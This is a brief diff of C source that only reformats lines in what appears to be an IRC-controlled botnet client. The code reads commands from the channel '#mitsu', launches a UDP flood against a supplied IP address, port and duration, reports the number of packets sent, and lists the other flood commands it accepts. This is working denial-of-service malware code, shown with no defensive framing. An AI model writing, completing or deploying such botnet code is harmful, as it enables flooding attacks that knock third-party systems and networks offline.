@@ -35,17 +35,20 @@ int main(void)
 		c += 4;
 		char cmd[16], ip[32];
 		int port = 0, secs = 0;
-		if (sscanf(c, "%15s %31s %d %d", cmd, ip, &port, &secs) == 4 && strcmp(cmd, floods[2]) == 0) {
+		if (sscanf(c, "%15s %31s %d %d", cmd, ip, &port, &secs) == 4 &&
+		    strcmp(cmd, floods[2]) == 0) {
 			struct in_addr t;
 			t.s_addr = inet_addr(ip);
 			long sent = bot_udp_flood(t, port, secs);
-			dprintf(fd, "NOTICE %s :UDP flood of %s:%d done, %ld packets\r\n", "#mitsu", ip, port, sent);
+			dprintf(fd, "NOTICE %s :UDP flood of %s:%d done, %ld packets\r\n", "#mitsu",
+				ip, port, sent);
 #ifndef STAY
 			break;
 #endif
 		} else {
-			dprintf(fd, "NOTICE %s :unknown command %s (I know %s %s %s %s %s %s)\r\n", "#mitsu", cmd,
-				floods[0], floods[1], floods[2], floods[3], floods[4], floods[5]);
+			dprintf(fd, "NOTICE %s :unknown command %s (I know %s %s %s %s %s %s)\r\n",
+				"#mitsu", cmd, floods[0], floods[1], floods[2], floods[3],
+				floods[4], floods[5]);
 		}
 	}
 	dprintf(fd, "QUIT :bye\r\n");
